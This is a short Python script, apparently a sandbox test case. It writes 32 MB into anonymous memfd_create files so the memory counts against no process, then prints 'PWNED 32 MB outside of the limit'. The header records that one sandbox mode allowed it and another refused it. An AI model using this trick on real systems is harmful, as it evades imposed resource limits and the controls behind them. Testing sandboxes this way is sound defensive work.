# fills memory that belongs to no process, by memfd_create | basic: works finished | auto: refused error
import os

for _ in range(8):
    descriptor = os.memfd_create("memory")
    os.write(descriptor, b"x" * (4 << 20))
print("PWNED 32 MB outside of the limit")
